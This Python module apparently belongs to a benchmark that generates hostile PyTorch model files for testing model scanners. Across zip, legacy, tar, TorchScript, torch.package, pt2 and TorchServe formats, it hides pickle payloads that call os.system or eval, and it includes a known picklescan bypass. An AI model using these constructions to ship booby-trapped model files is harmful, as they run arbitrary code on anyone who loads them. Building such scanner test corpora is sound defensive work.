"""torch: hostile places inside its formats, old and new."""

from __future__ import annotations

import io
import pickle
import tarfile

from bench.scanner_attacks.archives import torch_zip
from bench.scanner_attacks.pickle_forms import SYSTEM
from bench.scanner_attacks.stream import Call, Name, Raw, call, push, stream
from bench.scanner_attacks.techniques import COMMAND, SOURCE, Family
from bench.scanner_attacks.zips import Member, archive

FAMILY = Family("torch")
_MAGIC, _PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
_HOSTILE = stream(SYSTEM, 2)
_HONEST = stream({}, 2)
_SYSTEM_INFO = {"protocol_version": 1001, "little_endian": True}


def _plain(value: object) -> bytes:
    return pickle.dumps(value, protocol=2)


def _tensor(storage: object = Name("torch", "FloatStorage")) -> Raw:
    # A persistent id, as torch writes it, then the call that rebuilds a tensor.
    identity = push(("storage", storage, "0", "cpu", 4), 2) + b"Q"
    return Raw(
        push(Name("torch._utils", "_rebuild_tensor_v2"), 2)
        + b"("
        + identity
        + push(0, 2)
        + push((2, 2), 2)
        + push((2, 1), 2)
        + push(False, 2)
        + push(call("collections", "OrderedDict"), 2)
        + b"tR"
    )


def _state(hostile: object) -> bytes:
    return stream(
        Raw(
            b"}(" + push("weight", 2) + push(_tensor(), 2) + push("x", 2) + push(hostile, 2) + b"u"
        ),
        2,
    )


@FAMILY("torch-zip-data", "model.pt")
def _zip_data() -> bytes:
    storage = Member("archive/data/0", bytes(16))
    return torch_zip(Member("archive/data.pkl", _state(SYSTEM)), storage)


@FAMILY("torch-zip-call-in-storage-type", "model.pt")
def _storage_type() -> bytes:
    body = stream(_tensor(call("builtins", "eval", SOURCE)), 2)
    return torch_zip(Member("archive/data.pkl", body), Member("archive/data/0", bytes(16)))


@FAMILY("torch-zip-other-top-folder", "model.pt")
def _top_folder() -> bytes:
    return archive(Member("x/y/data.pkl", _HOSTILE), Member("x/y/version", b"3\n"))


@FAMILY("torch-legacy-hostile-magic", "model.pt", "GHSA-97f8-7cmv-76j2", "picklescan magic bypass")
def _legacy_magic() -> bytes:
    magic = stream(call("builtins", "eval", f"[{SOURCE}, {_MAGIC}][1]"), 2)
    return magic + _plain(_PROTOCOL) + _plain(_SYSTEM_INFO) + _HONEST + _plain([])


@FAMILY("torch-legacy-hostile-info", "model.pt")
def _legacy_info() -> bytes:
    return _plain(_MAGIC) + _plain(_PROTOCOL) + _HOSTILE + _HONEST + _plain([])


@FAMILY("torch-legacy-hostile-model", "model.pt")
def _legacy_model() -> bytes:
    return _plain(_MAGIC) + _plain(_PROTOCOL) + _plain(_SYSTEM_INFO) + _HOSTILE + _plain([])


@FAMILY("torch-legacy-hostile-keys", "model.pt")
def _legacy_keys() -> bytes:
    return _plain(_MAGIC) + _plain(_PROTOCOL) + _plain(_SYSTEM_INFO) + _HONEST + _HOSTILE


@FAMILY("torch-legacy-second-save", "model.pt")
def _legacy_second() -> bytes:
    first = _plain(_MAGIC) + _plain(_PROTOCOL) + _plain(_SYSTEM_INFO) + _HONEST + _plain([])
    return first + _legacy_model()


@FAMILY("torch-legacy-tar", "model.tar")
def _legacy_tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as writer:
        for name, body in {
            "sys_info": _plain(_SYSTEM_INFO),
            "pickle": _HOSTILE,
            "storages": _plain(0),
            "tensors": _plain(0),
        }.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(body)
            writer.addfile(entry, io.BytesIO(body))
    return buffer.getvalue()


_SCRIPT = """class Net(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.Net, x: Tensor) -> Tensor:
    {body}
    return x
"""


def _script(body: str, *, constants: bytes = b"\x80\x02).", data: bytes | None = None) -> bytes:
    own = stream(Raw(b"c__torch__\nNet\n)\x81}(V" + b"training\n\x88ub"), 2)
    return torch_zip(
        Member("archive/data.pkl", own if data is None else data),
        Member("archive/code/__torch__.py", _SCRIPT.format(body=body).encode()),
        Member("archive/constants.pkl", constants),
    )


@FAMILY("torchscript-hostile-constants", "model.pt")
def _script_constants() -> bytes:
    return _script("pass", constants=_HOSTILE)


@FAMILY("torchscript-hostile-data", "model.pt")
def _script_data() -> bytes:
    return _script("pass", data=_HOSTILE)


@FAMILY("torchscript-reads-file", "model.pt")
def _script_reads() -> bytes:
    return _script('y = torch.from_file("/etc/hostname", False, 8, dtype=0)')


@FAMILY("torchscript-saves-file", "model.pt")
def _script_saves() -> bytes:
    return _script('torch.save(x, "/tmp/muniment-bench-never-written")')


@FAMILY("torchscript-debug-pickle", "model.pt")
def _script_debug() -> bytes:
    return torch_zip(
        Member("archive/data.pkl", _HONEST),
        Member("archive/code/__torch__.py", b"class Net(Module):\n  pass\n"),
        Member("archive/code/__torch__.py.debug_pkl", _HOSTILE),
        Member("archive/constants.pkl", b"\x80\x02)."),
    )


def _package(files: dict[str, bytes], extern: str = "") -> bytes:
    members = [Member(f"pkg/{name}", body) for name, body in files.items()]
    return archive(
        *members,
        Member("pkg/.data/extern_modules", extern.encode()),
        Member("pkg/.data/version", b"6\n"),
        Member("pkg/.data/python_version", b"3.11.7"),
    )


@FAMILY("torch-package-source", "model.pt")
def _package_source() -> bytes:
    body = push(Call(Name("mine.net", "Net")), 2)
    source = f"import os\nos.system('{COMMAND}')\n\nclass Net: pass\n"
    return _package({"model/model.pkl": stream(Raw(body), 2), "mine/net.py": source.encode()}, "os")


@FAMILY("torch-package-pickle", "model.pt")
def _package_pickle() -> bytes:
    return _package({"model/model.pkl": _HOSTILE}, "os\nposix")


@FAMILY("pt2-hostile-constant", "model.pt2")
def _pt2_constant() -> bytes:
    return archive(
        Member("m/archive_format", b"pt2"),
        Member("m/archive_version", b"0"),
        Member("m/models/model.json", b"{}"),
        Member("m/data/constants/custom_obj_0", _HOSTILE),
        Member("m/data/constants/tensor_0", torch_zip(Member("archive/data.pkl", _HOSTILE))),
    )


@FAMILY("pt2-hostile-sample-inputs", "model.pt2")
def _pt2_inputs() -> bytes:
    return archive(
        Member("m/archive_format", b"pt2"),
        Member("m/models/model.json", b"{}"),
        Member("m/data/sample_inputs/model.pt", torch_zip(Member("archive/data.pkl", _HOSTILE))),
    )


@FAMILY("pt2-shared-object", "model.pt2")
def _pt2_library() -> bytes:
    return archive(
        Member("m/archive_format", b"pt2"),
        Member("m/data/aotinductor/model/cabc.wrapper.so", b"\x7fELF\2\1\1" + bytes(57)),
    )


@FAMILY("torchserve-handler", "model.mar")
def _torchserve() -> bytes:
    manifest = b'{"model": {"handler": "handler.py", "serializedFile": "model.pt"}}'
    return archive(
        Member("MAR-INF/MANIFEST.json", manifest),
        Member("handler.py", f"import os\nos.system('{COMMAND}')\n".encode()),
        Member("model.pt", torch_zip(Member("archive/data.pkl", _HOSTILE))),
    )
